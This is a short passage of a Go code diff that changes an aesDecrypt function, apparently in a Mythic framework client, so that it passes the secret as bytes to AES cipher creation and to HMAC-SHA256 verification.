+		cli.Message(cli.DEBUG, "Entering into clients.mythic.aesDecrypt()...")
+	}
 	var block cipher.Block
 	var err error
 
-	if block, err = aes.NewCipher(client.secret); err != nil {
+	if block, err = aes.NewCipher(client.secret.Bytes()); err != nil {
 		return nil, err
 	}
 
@@ -1037,7 +1178,7 @@ func (client *Client) aesDecrypt(ciphertext []byte) ([]byte, error) {
 	}
 
 	// Verify the HMAC hash
-	h := hmac.New(sha256.New, client.secret)
+	h := hmac.New(sha256.New, client.secret.Bytes())
 	_, err = h.Write(append(iv, ciphertext...))
 	if err != nil {
 		return nil, fmt.Errorf("there was an error in the aesDecrypt function writing the HMAC:\r\n%s", err)